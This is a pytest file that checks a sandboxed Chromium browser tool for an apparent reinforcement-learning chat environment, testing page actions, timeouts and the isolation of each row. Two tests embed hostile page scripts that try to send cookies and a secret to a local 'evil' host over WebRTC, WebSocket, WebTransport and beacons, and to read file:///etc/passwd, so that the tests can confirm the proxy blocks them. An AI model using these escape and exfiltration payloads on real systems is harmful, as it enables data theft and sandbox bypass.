"""A real Chromium on pages that are served here: what a policy can do with it and what not."""

import functools
import http.server
import json
import os
import pickle
import select
import socket
import threading
from contextlib import closing, contextmanager, nullcontext

import pytest
from torchrl.envs.transforms import Compose

from torchrl_data.conversation_io import read_conversations
from torchrl_envs import (
    BrowserTransform,
    ChatEnv,
    DataLoadingPrimer,
    RewardFunctions,
    StepCounter,
)
from torchrl_envs.browser import chromium, own_network

AS_ROOT = {"chromium_sandbox": os.geteuid() != 0}
SHOP = """<title>Shop</title><h1 id=top>Pears</h1><p class=price data-cents=120>1.20</p>
<input name=amount><button onclick="document.querySelector('#said').textContent =
  'ordered ' + document.querySelector('input').value">Order</button><p id=said></p>
<a href=/next>next</a> <a id=new target=_blank href=/next>new window</a>
<div style="height: 5000px"></div>"""


class _Handler(http.server.BaseHTTPRequestHandler):
    def __init__(self, server_state, *args):
        self.state = server_state
        super().__init__(*args)

    def do_GET(self):
        self.state["seen"].append((self.path, dict(self.headers)))
        page = self.state["pages"].get(self.path.split("?")[0])
        if page is None:
            return self.send_error(404)
        if page == "hang":
            return self.state["end"].wait(30)
        if page.startswith("http"):
            self.send_response(302)
            self.send_header("Location", page)
            self.send_header("Content-Length", "0")
            return self.end_headers()
        body = page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Set-Cookie", f"visits={self.path}")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        return self.wfile.write(body)

    def log_message(self, *args):
        pass


@contextmanager
def serve(pages):
    state = {"pages": pages, "seen": [], "end": threading.Event()}
    handler = functools.partial(_Handler, state)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = False
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", state
    finally:
        state["end"].set()
        server.shutdown()
        server.server_close()
        thread.join()


def zero(completions):
    return [0.0] * len(completions)


def make_env(browser, size=1):
    rows = [{"prompt": f"<{i}>"} for i in range(size)]
    parts = [DataLoadingPrimer(rows), browser, StepCounter(max_steps=20), RewardFunctions([zero])]
    return ChatEnv(batch_size=size).append_transform(Compose(*parts))


def answers(end, row=0):
    messages = read_conversations(end, "prompt", who="test").messages(row)
    return [m["content"] for m in messages if m["role"] == "tool"]


@pytest.fixture
def browse(scripted, call_text, play):
    """Runs calls of one row in an environment of its own; gives the answers."""

    def run(browser, calls):
        turns = [call_text("browser", **call) for call in calls]
        with closing(make_env(browser)) as env:
            (end,) = play(env, scripted([*turns, "done"]), max_turns=len(turns) + 2)
        return answers(end)

    return run


def test_what_a_policy_can_do(browse, no_leaks, tmp_path):
    pages = {"/": SHOP, "/next": "<title>Next</title><body>more é" + "x" * 5000}
    with serve(pages) as (host, state):
        url = f"http://{host}"
        browser = BrowserTransform(
            allowed_domains=[host], screenshot_dir=tmp_path, max_result_bytes=1000, **AS_ROOT
        )
        said = browse(
            browser,
            [
                {"action": "navigate", "url": f"{url}/"},
                {"action": "extract", "selector": "#top"},
                {
                    "action": "extract",
                    "selector": ".price",
                    "extract_type": "attribute",
                    "attribute": "data-cents",
                },
                {"action": "type", "selector": "input", "text": "3"},
                {"action": "click", "selector": "button"},
                {"action": "extract", "selector": "#said", "extract_type": "html"},
                {"action": "scroll", "scroll_amount": 100},
                {"action": "screenshot"},
                {"action": "click", "selector": "#new"},
                {"action": "extract"},
                {"action": "navigate", "url": f"{url}/missing"},
                {"action": "extract", "extract_type": "attribute"},
            ],
        )
        shop = {"url": f"{url}/", "title": "Shop"}
        assert json.loads(said[0]) == {**shop, "status": 200}
        assert said[1:3] == ["Pears", "120"]
        assert json.loads(said[3]) == json.loads(said[4]) == shop
        assert said[5] == "ordered 3"
        assert json.loads(said[6]) == {**shop, "scrolled_to": 100}
        with open(json.loads(said[7])["path"], "rb") as file:
            assert file.read(8) == b"\x89PNG\r\n\x1a\n"
        assert json.loads(said[8]) == {"url": f"{url}/next", "title": "Next"}
        assert said[9].startswith("more é" + "x" * 900)
        assert said[9].endswith("more characters were cut]")
        assert len(said[9].encode()) <= 1000
        assert json.loads(said[10])["status"] == 404
        assert "'attribute' is a required property" in said[11]
        # The proxy's password is for the proxy alone.
        assert not any("roxy" in name for _, headers in state["seen"] for name in headers)


def test_only_allowed_hosts_are_reached(browse, no_leaks):
    """By no page, redirect, embedded part, script, socket or other spelling of an address."""
    with serve({"/": "evil", "/ws": "evil"}) as (evil, evil_state):
        port = evil.split(":")[1]
        attacks = f"""<title>start</title><img src=http://{evil}/img>
<iframe src=http://{evil}/frame></iframe><link rel=stylesheet href=http://{evil}/css>
<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=http://{evil}>
<script src=http://{evil}/script></script><p id=out></p>
<a id=go href=http://{evil}/link>go</a>
<script>
const out = document.querySelector("#out");
const tries = ["http://{evil}/fetch", "http://localhost:{port}/", "http://[::1]:{port}/",
  "http://2130706433:{port}/", "http://0x7f.1:{port}/", "http://127.1:{port}/",
  "http://127.0.0.1.:{port}/", "/redirect", "file:///etc/passwd"];
navigator.sendBeacon("http://{evil}/beacon", "x");
new WebSocket("ws://{evil}/ws");
const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:{evil}"}}]}});
peer.createDataChannel("x"); peer.createOffer().then(o => peer.setLocalDescription(o));
(async () => {{
  for (const url of tries) {{
    try {{ const r = await fetch(url, {{mode: "no-cors"}}); out.textContent += r.type + ";" }}
    catch (e) {{ out.textContent += "blocked;" }}
  }}
  out.textContent += "end";
}})();
</script>"""
        good_pages = {"/": attacks, "/redirect": f"http://{evil}/redirected"}
        with serve(good_pages) as (good, good_state):
            browser = BrowserTransform(allowed_domains=[good], timeout_s=20, **AS_ROOT)
            said = browse(
                browser,
                [
                    {"action": "navigate", "url": f"http://{good}/"},
                    {"action": "extract", "selector": "#out:has-text('end')"},
                    {"action": "click", "selector": "#go"},
                    {"action": "extract"},
                    {"action": "navigate", "url": f"http://{good}/redirect"},
                    {"action": "navigate", "url": f"http://{evil}/"},
                    {"action": "navigate", "url": f"http://{good}@{evil}/"},
                    {"action": "navigate", "url": f"http://{good}\\@{evil}/"},
                    {"action": "navigate", "url": "file:///etc/passwd"},
                    {"action": "navigate", "url": "view-source:file:///etc/passwd"},
                    {"action": "navigate", "url": "javascript:1"},
                ],
            )
            assert json.loads(said[0])["title"] == "start"
            # The proxy's refusal is all that a page can get; a file not even that.
            assert set(said[1].split(";")) <= {"opaque", "blocked", "end"}
            assert said[1].endswith("end")
            assert "evil" not in said[3]
            for refused in said[4:]:
                assert "not allowed" in refused or "can't be opened" in refused, refused
            assert f"leads to {evil}" in said[4]
            assert good_state["seen"][0][0] == "/"
        assert evil_state["seen"] == []


# Every way out that Chromium has beside its requests; {evil} listens to UDP and TCP.
_WAYS_OUT = """<title>start</title><p id=out></p>
<link rel=preconnect href=https://{evil}><link rel=prefetch href=http://{evil}/prefetch>
<link rel=icon href=http://{evil}/icon><link rel=manifest href=http://{evil}/manifest>
<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["http://{evil}/pre"]}]}
</script><video src=http://{evil}/video></video><object data=http://{evil}/object></object>
<script>
const secret = "secret" + document.cookie, [host, port] = "{evil}".split(":");
const out = document.querySelector("#out"), made = [];
function connects(server, policy) {
  const settings = {iceServers: server ? [{urls: server, username: secret, credential: "x"}] : []};
  const peer = new RTCPeerConnection({...settings, iceTransportPolicy: policy});
  made.push(peer);
  peer.createDataChannel("x");
  return peer.createOffer().then(o => peer.setLocalDescription(o)).then(() => peer);
}
async function direct() {
  const here = await connects("", "all"), there = new RTCPeerConnection();
  made.push(there);
  await there.setRemoteDescription(here.localDescription);
  await there.setLocalDescription(await there.createAnswer());
  const sdp = there.localDescription.sdp.replace(/a=candidate.*\\r\\n/g, "");
  await here.setRemoteDescription({type: "answer", sdp});
  for (const [kind, more] of [["udp", ""], ["tcp", " tcptype passive"]])
    await here.addIceCandidate({sdpMid: "0",
      candidate: `candidate:1 1 ${kind} 2113937151 ${host} ${port} typ host${more}`});
}
const ways = {
  stun: () => connects("stun:{evil}", "all"), "turn udp": () => connects("turn:{evil}", "relay"),
  "turn tcp": () => connects("turn:{evil}?transport=tcp", "relay"),
  turns: () => connects("turns:{evil}?transport=tcp", "relay"), direct,
  webtransport: () => new WebTransport("https://{evil}/" + secret).ready,
  websocket: () => new WebSocket("wss://{evil}/" + secret),
  events: () => new EventSource("http://{evil}/" + secret),
  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("http://{evil}/w")`]))),
  https: () => fetch("https://{evil}/", {mode: "no-cors"}),
};
(async () => {
  for (const [name, way] of Object.entries(ways))
    try { await way(); out.textContent += name + " tried;" }
    catch (e) { out.textContent += name + " refused;" }
  setTimeout(() => { out.textContent += "end" }, 4000);
})();
</script>"""


@pytest.fixture
def listener():
    """A port where every byte is noted that comes over UDP or TCP."""
    heard, closing = [], threading.Event()
    with (
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(type=socket.SOCK_DGRAM) as udp,
    ):
        udp.bind(tcp.getsockname())

        def listen():
            while not closing.is_set():
                for ready in select.select([tcp, udp], [], [], 0.05)[0]:
                    if ready is udp:
                        heard.append(("udp", udp.recv(4096)))
                        continue
                    connection, _ = tcp.accept()
                    with connection:
                        connection.settimeout(1)
                        heard.append(("tcp", connection.recv(4096)))

        thread = threading.Thread(target=listen)
        thread.start()
        yield f"127.0.0.1:{tcp.getsockname()[1]}", heard
        closing.set()
        thread.join()


@pytest.mark.parametrize("network", ["its own", "shared"])
def test_no_page_has_a_way_past_the_proxy(network, browse, listener, monkeypatch, no_leaks):
    evil, heard = listener
    ours = own_network.reason_against()
    if network == "shared":
        monkeypatch.setattr(chromium, "reason_against", lambda: "this is a test")
        shown = pytest.warns(chromium.SharedNetworkWarning, match="this is a test")
    else:
        shown = nullcontext()
        assert ours is None, ours
    with serve({"/": _WAYS_OUT.replace("{evil}", evil)}) as (good, _):
        with shown:
            browser = BrowserTransform(allowed_domains=[good], timeout_s=30, **AS_ROOT)
        calls = [
            {"action": "navigate", "url": f"http://{good}/"},
            {"action": "extract", "selector": "#out:has-text('end')"},
        ]
        _, said = browse(browser, calls)
    assert said.endswith("end"), said
    for way in ("stun", "turn udp", "turn tcp", "turns", "direct", "websocket", "worker"):
        assert f"{way} tried" in said
    assert heard == []


def test_rows_have_contexts_of_their_own(scripted, call_text, play, no_leaks):
    pages = {"/0": "zero", "/1": "one"}
    with serve(pages) as (host, _):
        browser = BrowserTransform(allowed_domains=[host], **AS_ROOT)
        script = {
            f"<{i}>": [
                call_text("browser", action="navigate", url=f"http://{host}/{i}"),
                call_text("browser", action="extract"),
                "done",
            ]
            for i in range(2)
        }
        policy = scripted(script)
        with closing(make_env(browser, size=2)) as env:
            ends = play(env, policy)
            assert [answers(ends[i], i)[1] for i in range(2)] == ["zero", "one"]
            # The next episode of a row knows nothing of the last one.
            policy.engine.script = {"": [call_text("browser", action="extract"), "done"]}
            policy.engine.served.clear()
            ends = play(env, policy)
            assert answers(ends[0], 0) == [""]


def test_a_page_that_hangs_holds_up_nobody(scripted, call_text, play, no_leaks):
    pages = {"/slow": "hang", "/loops": "<script>while (true) {}</script>", "/": "fine"}
    with serve(pages) as (host, state):
        browser = BrowserTransform(allowed_domains=[host], timeout_s=8.0, **AS_ROOT)
        go = functools.partial(call_text, "browser", action="navigate")
        read = call_text("browser", action="extract")
        # On a busy machine the deadline may be too short for a page that works; not every time.
        fine = [go(url=f"http://{host}/"), read] * 3 + ["done"]
        script = {
            "<0>": [go(url=f"http://{host}/slow"), *fine],
            "<1>": [go(url=f"http://{host}/loops"), "done"],
            "<2>": fine,
        }
        with closing(make_env(browser, size=3)) as env:
            ends = play(env, scripted(script))
        assert "Timeout" in answers(ends[0], 0)[0]
        assert "fine" in answers(ends[0], 0)[2::2]
        assert "Timeout" in answers(ends[1], 1)[0]
        assert "fine" in answers(ends[2], 2)[1::2]
        paths = [path for path, _ in state["seen"]]
        assert paths.count("/slow") == paths.count("/loops") == 1


def test_settings(tmp_path):
    good = {"allowed_domains": ["example.com"], **AS_ROOT}
    with pytest.raises(ValueError, match="is empty"):
        BrowserTransform(**good | {"allowed_domains": []})
    with pytest.raises(ValueError, match="no program that can be run"):
        BrowserTransform(**good, executable_path=str(tmp_path))
    with pytest.raises(ValueError, match="at least 256"):
        BrowserTransform(**good, max_result_bytes=10)
    if os.geteuid() == 0:
        with pytest.raises(ValueError, match="does not work for root"):
            BrowserTransform(allowed_domains=["example.com"])
    copy = pickle.loads(pickle.dumps(BrowserTransform(**good)))
    assert copy.allowed.domains == ("example.com",)


def test_a_machine_without_a_browser(monkeypatch):
    monkeypatch.setenv("PATH", "")
    with pytest.raises(ValueError, match="apt-get install chromium"):
        BrowserTransform(allowed_domains=["example.com"], **AS_ROOT)
